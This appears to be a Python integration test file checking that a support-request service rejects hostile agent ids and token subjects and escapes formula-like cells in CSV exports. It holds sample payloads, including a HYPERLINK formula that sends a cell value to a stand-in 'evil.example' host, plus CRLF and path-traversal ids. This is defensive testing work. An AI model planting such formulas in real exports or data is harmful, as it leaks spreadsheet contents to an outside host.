"""Issue 26, class 5: CSV formula injection. Agent ids and token subjects are ids like every other
(shared/bounds), and every text cell of a CSV export that a spreadsheet would run as a formula is
written with a leading apostrophe, also for values stored before the bound."""

from __future__ import annotations

import csv
import io

import jwt
import pytest
from sqlalchemy import update

from services.search.store import requests as search_requests
from tests.integration.conftest_http import Api, assert_problem
from tests.integration.search_harness import caught_up

pytest_plugins = ["tests.integration.conftest_http"]
pytestmark = pytest.mark.filterwarnings("ignore::jwt.warnings.InsecureKeyLengthWarning")

HOSTILE_IDS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "a\r\nb",
    "agent/../1",
    "@SUM(1)",
    " x",
]


@pytest.mark.parametrize("agent_id", HOSTILE_IDS)
def test_class5_an_agent_id_is_bounded_like_every_id(api: Api, agent_id: str) -> None:
    # Given a request waiting on support
    state = api.open_request()
    # When support assigns it to an agent id that is not an id
    response = api.call(
        "support",
        "POST",
        f"/v1/support-requests/{state['id']}/assign",
        {"agent_id": agent_id},
        sub="agent-1",
    )
    # Then 422 names the field, and nobody is assigned
    assert_problem(response, 422, detail_contains="agent_id")
    assert api.as_party(state, "support", "GET").json().get("assigned_to") in (None, "")


@pytest.mark.parametrize("subject", HOSTILE_IDS)
def test_class5_a_token_subject_is_bounded_like_every_id(api: Api, subject: str) -> None:
    # Given a token correctly signed for a subject that is not an id
    token = jwt.encode(
        {"sub": subject, "role": "support", "iat": 1796000000, "exp": 4102444700},
        api.codec.secret,
        algorithm="HS256",
    )
    # When it is used; then 401 says why
    response = api.client.get("/v1/support-requests", headers={"Authorization": f"Bearer {token}"})
    assert_problem(response, 401, detail_contains="subject")


def test_class5_csv_export_cells_that_start_a_formula_are_escaped(api: Api) -> None:
    # Given a request whose stored assignee (written before agent ids were bounded) is a formula
    state = api.open_request()
    caught_up(api.client.app)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    with api.client.app.state.search.engine.begin() as connection:
        connection.execute(
            update(search_requests)
            .where(search_requests.c.id == state["id"])
            .values(assigned_to=formula)
        )
    # When support exports the list as CSV
    response = api.client.get(
        "/v1/support-requests",
        params={"buyer_id": state["buyer_id"]},
        headers=api.headers("support", "agent-1", Accept="text/csv"),
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    # Then the cell starts with an apostrophe: a spreadsheet shows it as text, runs nothing
    assert [row["assigned_to"] for row in rows] == ["'" + formula]
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values()
    )
